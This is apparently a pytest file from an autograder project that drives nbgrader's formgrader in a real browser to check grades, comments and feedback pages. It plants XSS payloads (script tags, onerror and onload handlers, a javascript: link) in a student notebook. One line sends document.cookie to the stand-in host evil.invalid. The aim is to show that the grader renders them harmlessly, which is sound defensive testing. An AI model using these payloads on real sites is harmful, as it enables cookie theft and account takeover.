"""nbgrader's formgrader with our grades, on a real server and in a real browser."""

from __future__ import annotations

import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from browsing import chromium, opened
from released import ASSIGNMENT, FIRST

from autograder.authoring.notebooks import code_cell, fill, to_bytes
from autograder.authoring.sample import read_material
from autograder.course import METADATA, Course, project_root
from autograder.sandbox import isolation

TOKEN = "only-this-test-knows"
EXTENSIONS = '{"nbgrader.server_extensions.formgrader": True}'
RUN = "document.title='ran';fetch('http://evil.invalid/'+document.cookie)"
HOSTILE = (
    f'<script>{RUN}</script> <img src=x onerror="{RUN}"> ![pixel](http://evil.invalid/p.png) '
    f'<svg onload="{RUN}"></svg> [link](javascript:{RUN})'
)
# nbgrader and Jupyter warn about themselves; that is theirs to mend
pytestmark = pytest.mark.filterwarnings("default")


@pytest.fixture(scope="module")
def course(sample, tmp_path_factory):
    """The graded sample class, and Zoe, whose work is hostile and not graded yet."""
    folder = tmp_path_factory.mktemp("formgrader") / "course"
    shutil.copytree(sample.course, folder)
    material = read_material(Course(folder), project_root() / "solutions", ASSIGNMENT)
    notebook = fill(material.release, material.solved)
    raising = f"class Bad(Exception): pass\nBad.__name__ = {HOSTILE!r}\nraise Bad({HOSTILE!r})"
    shows = "from IPython.display import HTML, Javascript, display\n"
    shows += f"display(HTML({HOSTILE!r}), Javascript({RUN!r}))\nprint({HOSTILE!r})"
    notebook["cells"] += [
        {"cell_type": "markdown", "metadata": {}, "source": HOSTILE},
        code_cell(raising),
        code_cell(shows),
    ]
    handed = folder / "submitted" / "zoe" / ASSIGNMENT
    handed.mkdir(parents=True)
    (handed / f"{ASSIGNMENT}.ipynb").write_bytes(to_bytes(notebook))
    return folder


@pytest.fixture(scope="module")
def server(course):
    """A Jupyter server with the formgrader, local to this machine; it ends with the tests."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    home = course.parent
    mark = f"HOME={home}"
    environment = {
        "HOME": str(home),
        "PATH": os.pathsep.join([str(Path(sys.executable).parent), "/usr/bin", "/bin"]),
        "PYTHONPATH": os.environ.get("PYTHONPATH", ""),
        "JUPYTER_NO_CONFIG": "1",  # ignore this machine's own settings
    }
    options = [
        "--ServerApp.ip=127.0.0.1",
        f"--ServerApp.port={port}",
        "--ServerApp.port_retries=0",
        "--ServerApp.allow_root=True",
        "--no-browser",
        f"--IdentityProvider.token={TOKEN}",
        f"--ServerApp.root_dir={course}",
        f"--ServerApp.jpserver_extensions={EXTENSIONS}",
    ]
    with open(home / "server.log", "wb") as log:
        process = subprocess.Popen(
            [sys.executable, "-W", "ignore", "-m", "jupyter", "server", *options],
            cwd=course,
            env=environment,
            stdout=log,
            stderr=log,
        )
    address = f"http://127.0.0.1:{port}/"
    try:
        _wait_for(lambda: _answers(address) or process.poll() is not None)
        assert process.poll() is None, (home / "server.log").read_text()
        yield address
    finally:
        process.terminate()
        process.wait(timeout=30)
    _wait_for(lambda: not _left(mark.encode()))


def _wait_for(condition, seconds=60):
    until = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < until, "timed out"
        time.sleep(0.1)


def _answers(address):
    try:
        return urllib.request.urlopen(address + "api", timeout=5).status == 200
    except OSError:
        return False


def _left(mark):
    """List processes with an entry in their environment, including the server's zygotes."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if mark in (entry / "environ").read_bytes().split(b"\0"):
                found.append(entry.name)
        except OSError:  # it has ended, or belongs to another user
            continue
    return found


@pytest.fixture(scope="module")
def browser():
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def formgrader(server, browser):
    """The formgrader, logged in once by token."""
    with opened(browser, f"{server}formgrader?token={TOKEN}", allowed=(server, "data:")) as both:
        page, problems = both

        def visit(path):
            page.goto(f"{server}formgrader/{path}")
            page.wait_for_load_state("networkidle")

        def press(student, button):
            """Press a student's button, and wait for the answer."""
            visit(f"manage_submissions/{ASSIGNMENT}")
            page.locator(f"tr:has(td.student-id:text-is('{student}')) td.{button} a").click()
            page.wait_for_selector(".modal-title", timeout=60_000)
            said = page.locator(".modal-title").inner_text()
            assert said == "Success", page.locator(".modal").inner_text()

        def submission(student):
            visit(f"gradebook/{ASSIGNMENT}/{ASSIGNMENT}")
            visit(_link(page, student))

        yield SimpleNamespace(
            page=page, problems=problems, visit=visit, press=press, submission=submission
        )


def _link(page, student):
    links = "[...document.querySelectorAll('td a')].map(a => [a.textContent, a.pathname])"
    return dict(page.evaluate(links))[student].partition("formgrader/")[2] + "/?index=0"


def table(page, column):
    """Read a column of one of the formgrader's tables, by student."""
    rows = page.locator("#main-table tr")
    return {
        row.locator("td.student-id").inner_text(): row.locator(f"td.{column}").inner_text()
        for row in rows.all()
    }


def grades(course):
    """Read all grades and comments in a gradebook, without their times."""
    base = sqlite3.connect(course / "gradebook.db")
    where = """from {0} x join submitted_notebook sn on sn.id = x.notebook_id
        join base_cell c on c.id = x.cell_id
        join submitted_assignment sa on sa.id = sn.assignment_id order by 1, 2"""
    select = "select sa.student_id, c.name, {1} " + where
    found = [
        base.execute(select.format("grade", "x.auto_score, x.manual_score")).fetchall(),
        base.execute(select.format("comment", "x.auto_comment, x.manual_comment")).fetchall(),
    ]
    base.close()
    return found


def feedback_page(course, student):
    return course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"


def test_the_table_shows_the_grades(formgrader, sample):
    formgrader.visit(f"manage_submissions/{ASSIGNMENT}")
    shown = table(formgrader.page, "score")
    for student, row in sample.rows.items():
        assert shown[student] == f"{row['points']:g} / {row['of']:g}", student
    status = table(formgrader.page, "status")
    assert status["kofi"] == "needs manual grading" and status["amina"] == "graded"


def message_of(course, student):
    """Read the message of the first exercise's check to a student."""
    path = course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    known = nbformat.read(path, as_version=4).metadata[METADATA]
    return known["scores"][FIRST]["message"]


def test_manual_grades_survive_a_new_grading(formgrader, course, sample, command):
    """With the formgrader's buttons: a score, a comment, autograde, feedback."""
    page = formgrader.page
    formgrader.submission("esra")
    text = page.locator("body").inner_text()
    mistake = re.search(r"^  Mistake +(.+?)$", message_of(course, "esra"), re.MULTILINE)[1]
    assert re.search(rf"{FIRST}: \d+ of \d+ cases pass\.", text)
    assert mistake in text
    assert page.locator(f"#{FIRST}").get_attribute("placeholder") == "0"
    said = page.locator(f"#solution_{FIRST}-comment").get_attribute("placeholder")
    assert mistake in said
    with page.expect_response(lambda r: "/api/grade/" in r.url and r.request.method == "PUT"):
        page.locator(f"#{FIRST}").fill("1.5")
        page.locator(f"#{FIRST}").blur()
    with page.expect_response(lambda r: "/api/comment/" in r.url and r.request.method == "PUT"):
        page.locator(f"#solution_{FIRST}-comment").fill("The **idea** is right.")
        page.locator(f"#solution_{FIRST}-comment").blur()
    before = grades(course)
    assert ("esra", FIRST, 0.0, 1.5) in before[0]
    formgrader.press("esra", "autograde")
    assert grades(course) == before
    formgrader.press("esra", "generate-feedback")
    written = feedback_page(course, "esra").read_bytes()
    assert b"The <strong>idea</strong> is right." in written
    assert b"partly right, graded by hand" in written
    assert command("feedback", "--course", course).code == 0
    assert feedback_page(course, "esra").read_bytes() == written
    formgrader.visit(f"manage_submissions/{ASSIGNMENT}")
    assert table(page, "score")["esra"] == f"1.5 / {sample.rows['esra']['of']:g}"


def test_graders_can_comment_on_an_unreadable_file(formgrader, course):
    """Kofi's file is broken, but there is a field for a comment, which the page shows."""
    page = formgrader.page
    formgrader.submission("kofi")
    assert "could not be graded" in page.locator("body").inner_text()
    with page.expect_response(lambda r: "/api/comment/" in r.url and r.request.method == "PUT"):
        page.locator(f"#solution_{FIRST}-comment").fill("Please **send** it again.")
        page.locator(f"#solution_{FIRST}-comment").blur()
    formgrader.press("kofi", "generate-feedback")
    written = feedback_page(course, "kofi").read_bytes()
    assert written.count(b"Please <strong>send</strong> it again.") == 1
    assert b"Your answer" not in written


def test_the_button_gives_the_same_grades_as_the_class_command(formgrader, course):
    before = grades(course)
    for student in ("carla", "kofi"):
        formgrader.press(student, "autograde")
    assert grades(course) == before


def _answer_in_prose(path):
    """Put a student's own Markdown into a graded notebook, as an essay question would."""
    notebook = nbformat.read(path, as_version=4)
    notebook.cells.append(nbformat.v4.new_markdown_cell(HOSTILE))
    path.unlink()
    nbformat.write(notebook, path)


def test_hostile_work_is_harmless_in_the_formgrader(formgrader, course, sample, browser):
    """Grade it with the button, look at it, and open its feedback page."""
    page, problems, of = formgrader.page, formgrader.problems, sample.rows["amina"]["of"]
    formgrader.press("zoe", "autograde")
    path = course / "autograded" / "zoe" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    known = nbformat.read(path, as_version=4).metadata[METADATA]
    assert all(score["passed"] for score in known["scores"].values())
    assert known["isolation"] == isolation.current().name
    _answer_in_prose(path)
    problems.clear()
    formgrader.submission("zoe")
    assert page.title() == ASSIGNMENT and "evil.invalid" in page.content()
    elsewhere = {re.sub(r"\?.*", "", told) for told in problems if told.startswith("request: ")}
    assert all("/mathjax/" in told for told in elsewhere), elsewhere  # the formgrader's own
    formgrader.press("zoe", "generate-feedback")
    with opened(browser, feedback_page(course, "zoe").as_uri()) as (shown, wrong):
        assert wrong == [] and shown.title() != "ran"
        assert shown.locator("script").count() == 0
        text = shown.locator("main").inner_text()
        assert f"<script>{RUN}</script>" in text and f"{of:g} of {of:g} points" in text
